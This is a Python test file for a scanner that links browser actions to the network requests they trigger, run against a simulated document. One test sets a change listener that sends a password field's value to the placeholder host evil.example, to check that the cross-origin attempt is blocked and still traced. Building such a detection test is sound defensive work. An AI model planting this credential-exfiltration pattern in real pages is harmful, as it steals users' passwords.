"""End-to-end scans over the simulated document."""
import asyncio
import json
import time

import httpx
import pytest

from causelink.base.config import CauselinkConfig, EngineConfig, StorageConfig
from causelink.contracts.errors import InstrumentationError
from causelink.contracts.ids import id_prefix, is_synthetic
from causelink.contracts.validation import load_scan_run
from causelink.engine.aggregator import DOCUMENT_PART_ID
from causelink.environment.simulated import SimulatedDocument
from causelink.errors import CauselinkError, ErrorCode
from causelink.scanner import LinkageScanner

APP = "https://app.local"
GRACE_S = 0.1


def ok_handler(request: httpx.Request) -> httpx.Response:
    return httpx.Response(200, text="ok")


def make_config(tmp_path=None):
    storage = StorageConfig(base_dir=tmp_path) if tmp_path is not None else StorageConfig()
    return CauselinkConfig(engine=EngineConfig(grace_delay_ms=100), storage=storage)


def request_for(scanner, url):
    matches = [r for r in scanner.get_results().requests if r.url == url]
    assert len(matches) == 1, f"expected one request for {url}, got {matches}"
    return matches[0]


def actions_of(scanner):
    part = scanner.aggregator.get_part(DOCUMENT_PART_ID)
    return part.actions if part else []


class BrokenEnvironment:
    """Environment whose instrumentation cannot be installed."""

    def __init__(self):
        self.navigated = []

    async def install(self, hooks, observer):
        raise InstrumentationError("page refused the init script")

    async def expose_function(self, name, fn):
        pass

    async def navigate(self, url):
        self.navigated.append(url)

    async def close(self):
        pass


class NoBridgeEnvironment(BrokenEnvironment):
    async def install(self, hooks, observer):
        pass

    async def expose_function(self, name, fn):
        raise InstrumentationError("bridge unavailable")


async def started_scan(document, tmp_path=None):
    scanner = LinkageScanner(document, make_config(tmp_path))
    await scanner.setup()
    await scanner.run(f"{APP}/login")
    return scanner


@pytest.mark.asyncio
async def test_value_read_links_to_fetch():
    document = SimulatedDocument(APP, transport=httpx.MockTransport(ok_handler))
    scanner = await started_scan(document)
    username = document.create_element("input", id="username", value="alice")

    assert username.value == "alice"
    document.fetch("https://api.x/data")
    await document.settle()

    cause = actions_of(scanner)[0]
    assert cause.type == "value-read"
    assert cause.data == "id=username"

    request = request_for(scanner, "https://api.x/data")
    assert request.action_id == cause.action_id
    assert request.status == 200
    assert request.request_source == "fetch"
    assert request.action_id not in [r.action_id for r in scanner.aggregator.unlinked_requests()]

    await scanner.close()


@pytest.mark.asyncio
async def test_blocked_cross_origin_attempt_stays_linked(caplog):
    document = SimulatedDocument(
        APP,
        transport=httpx.MockTransport(ok_handler),
        allowed_origins=[APP],
    )
    scanner = await started_scan(document)
    password = document.create_element("input", name="password", value="hunter2")

    def exfiltrate(event):
        document.fetch(f"https://evil.example/collect?p={password.value}", method="POST")

    password.add_event_listener("change", exfiltrate)
    with caplog.at_level("WARNING", logger="causelink.scanner"):
        password.dispatch_event("change")
        await document.settle()

    blocked = scanner.aggregator.blocked_attempts()
    assert len(blocked) == 1
    assert blocked[0].status == -999
    assert blocked[0].method == "POST"
    assert blocked[0].action_id in scanner.aggregator.action_ids()
    assert not is_synthetic(blocked[0].action_id)
    assert scanner.linkage_stats().linked == 1
    warnings = [
        r.getMessage() for r in caplog.records if r.name == "causelink.scanner" and r.levelname == "WARNING"
    ]
    assert warnings == [f"[Scanner] Blocked attempt POST {blocked[0].url} linked to {blocked[0].action_id}"]

    await scanner.close()


@pytest.mark.asyncio
async def test_submit_reading_two_fields_leaves_no_active_cause():
    document = SimulatedDocument(APP, transport=httpx.MockTransport(ok_handler))
    scanner = await started_scan(document)
    form = document.create_form(id="login")
    user = document.create_element("input", id="user", value="alice")
    pw = document.create_element("input", id="pw", value="hunter2")
    form.add_event_listener("submit", lambda event: (user.value, pw.value))

    form.submit()
    assert scanner.stack.depth() == 3
    await asyncio.sleep(GRACE_S * 5)

    assert scanner.stack.depth() == 0
    document.fetch("https://analytics.x/heartbeat")
    await document.settle()

    heartbeat = request_for(scanner, "https://analytics.x/heartbeat")
    assert id_prefix(heartbeat.action_id) == "http"
    assert heartbeat.action_id not in scanner.aggregator.action_ids()

    await scanner.close()


@pytest.mark.asyncio
async def test_repeated_url_without_cause_is_not_linked_to_old_cause():
    document = SimulatedDocument(APP, transport=httpx.MockTransport(ok_handler))
    scanner = await started_scan(document)
    username = document.create_element("input", id="username", value="alice")

    assert username.value == "alice"
    document.fetch("/poll")
    await asyncio.sleep(GRACE_S * 1.5)
    assert scanner.stack.current() is None

    document.fetch("/poll")
    await document.settle()

    first, second = [r for r in scanner.get_results().requests if r.url == f"{APP}/poll"]
    assert first.action_id == actions_of(scanner)[0].action_id
    assert is_synthetic(second.action_id)
    assert f"{APP}/poll" not in scanner.mapping

    await scanner.close()


@pytest.mark.asyncio
async def test_same_url_with_and_without_cause_in_one_turn():
    document = SimulatedDocument(APP, transport=httpx.MockTransport(ok_handler))
    scanner = await started_scan(document)
    username = document.create_element("input", id="username", value="alice")

    assert username.value == "alice"
    document.fetch("/poll")
    scanner.stack.pop_if_top(scanner.stack.current())
    # Both calls are dispatched before either request reaches the transport.
    document.fetch("/poll")
    await document.settle()

    first, second = [r for r in scanner.get_results().requests if r.url == f"{APP}/poll"]
    assert first.action_id == actions_of(scanner)[0].action_id
    assert is_synthetic(second.action_id)

    await scanner.close()


@pytest.mark.asyncio
async def test_static_loads_are_unlinked():
    document = SimulatedDocument(APP, transport=httpx.MockTransport(ok_handler))
    scanner = await started_scan(document)

    await document.load_resource("/static/site.css", "stylesheet")
    await document.load_resource("/static/app.js", "script")
    await document.load_resource("/static/logo.png", "image")

    results = scanner.get_results()
    assert all(is_synthetic(r.action_id) for r in results.requests)
    assert {id_prefix(r.action_id) for r in results.requests} == {"http"}
    assert sorted(p.id for p in results.parts) == ["part_image_1", "part_script_1", "part_stylesheet_1"]

    stats = scanner.linkage_stats()
    # The document load plus three static resources.
    assert stats.unlinked == 4
    assert stats.linkage_rate == 0

    await scanner.close()


@pytest.mark.asyncio
async def test_sequential_causes_link_independently():
    document = SimulatedDocument(APP, transport=httpx.MockTransport(ok_handler))
    scanner = await started_scan(document)
    email = document.create_element("input", id="email", value="a@b.c")
    card = document.create_element("input", id="card", value="4111")

    assert email.value == "a@b.c"
    document.fetch("https://api.x/email")
    await asyncio.sleep(GRACE_S * 1.5)

    assert card.value == "4111"
    document.fetch("https://api.x/card")
    await document.settle()

    first, second = actions_of(scanner)
    assert first.data == "id=email"
    assert second.data == "id=card"
    assert request_for(scanner, "https://api.x/email").action_id == first.action_id
    assert request_for(scanner, "https://api.x/card").action_id == second.action_id

    await scanner.close()


@pytest.mark.asyncio
async def test_open_send_call_links_through_open():
    document = SimulatedDocument(APP, transport=httpx.MockTransport(ok_handler))
    scanner = await started_scan(document)
    form = document.create_form(id="login")
    request = document.xhr()

    def on_submit(event):
        request.open("post", "/api/login")

    form.add_event_listener("submit", on_submit)
    form.submit()
    await asyncio.sleep(GRACE_S * 1.5)
    # The cause has expired, but it was captured at open().
    assert scanner.stack.current() is None
    request.send('{"user": "alice"}')
    await document.settle()

    cause = actions_of(scanner)[0]
    assert cause.type == "form-submit"
    recorded = request_for(scanner, f"{APP}/api/login")
    assert recorded.action_id == cause.action_id
    assert recorded.method == "POST"
    assert recorded.request_source == "xhr"
    assert request.status == 200
    assert scanner.interception.pending_operations() == 0

    await scanner.close()


@pytest.mark.asyncio
async def test_keystrokes_produce_listener_actions():
    document = SimulatedDocument(APP, transport=httpx.MockTransport(ok_handler))
    scanner = await started_scan(document)
    search = document.create_element("input")
    search.add_event_listener("keyup", lambda event: None)
    search.add_event_listener("click", lambda event: None)

    search.type_text("ab")

    types = [a.type for a in actions_of(scanner)]
    assert types == ["listener:keyup", "listener:keyup"]
    assert actions_of(scanner)[0].data == "element=input[0]"

    await scanner.close()


@pytest.mark.asyncio
async def test_burst_of_reports_settles_after_sweep():
    document = SimulatedDocument(APP, transport=httpx.MockTransport(ok_handler))
    scanner = await started_scan(document)

    for i in range(1200):
        scanner.interception.report_target(f"https://beacon.x/{i}", f"action_1700000000000_{i:09d}")
        assert len(scanner.mapping) <= 1000

    scanner.housekeeper.sweep()

    assert len(scanner.mapping) <= 500
    assert scanner.mapping.lookup("https://beacon.x/1199") is not None
    assert scanner.mapping.lookup("https://beacon.x/700") is not None
    assert scanner.mapping.lookup("https://beacon.x/699") is None

    await scanner.close()


@pytest.mark.asyncio
async def test_sweep_drops_request_opened_but_never_sent():
    document = SimulatedDocument(APP, transport=httpx.MockTransport(ok_handler))
    scanner = await started_scan(document)
    document.xhr().open("GET", "/api/never")
    assert scanner.interception.pending_opens() == 1

    result = scanner.housekeeper.sweep(now_ms=int(time.time() * 1000) + 301_000)

    assert result["abandoned"] == 1
    assert scanner.interception.pending_opens() == 0

    await scanner.close()


@pytest.mark.asyncio
async def test_finish_signal_and_saved_results(tmp_path):
    document = SimulatedDocument(APP, transport=httpx.MockTransport(ok_handler))
    scanner = await started_scan(document, tmp_path)
    username = document.create_element("input", id="username", value="alice")
    assert username.value == "alice"
    document.fetch("https://api.x/data")
    await document.settle()

    document.finish_scan()
    await scanner.wait_for_finish(timeout=1)
    assert scanner.finished
    assert scanner.state == "finished"

    path = scanner.save_results()
    await scanner.close()

    assert path == tmp_path / scanner.scan_id / "results.json"
    raw = json.loads(path.read_text(encoding="utf-8"))
    assert set(raw) == {"parts", "requests", "extraPages"}
    loaded = load_scan_run(path)
    assert request_for(scanner, "https://api.x/data").status == 200
    assert any(r.url == "https://api.x/data" and r.status == 200 for r in loaded.requests)


@pytest.mark.asyncio
async def test_setup_failure_is_fatal_and_prevents_navigation():
    environment = BrokenEnvironment()
    scanner = LinkageScanner(environment, make_config())

    with pytest.raises(CauselinkError) as exc_info:
        await scanner.setup()

    assert exc_info.value.code is ErrorCode.BRIDGE_INSTALL_FAILED
    assert exc_info.value.fatal

    with pytest.raises(CauselinkError) as exc_info:
        await scanner.run(APP)
    assert exc_info.value.code is ErrorCode.SCAN_NOT_SET_UP
    assert environment.navigated == []


@pytest.mark.asyncio
async def test_bridge_expose_failure_is_fatal():
    scanner = LinkageScanner(NoBridgeEnvironment(), make_config())

    with pytest.raises(CauselinkError) as exc_info:
        await scanner.setup()

    assert exc_info.value.code is ErrorCode.BRIDGE_EXPOSE_FAILED
    assert exc_info.value.fatal


@pytest.mark.asyncio
async def test_setup_twice_is_rejected():
    document = SimulatedDocument(APP, transport=httpx.MockTransport(ok_handler))
    scanner = LinkageScanner(document, make_config())
    await scanner.setup()

    with pytest.raises(CauselinkError) as exc_info:
        await scanner.setup()
    assert exc_info.value.code is ErrorCode.SCAN_ALREADY_RUNNING

    await scanner.close()
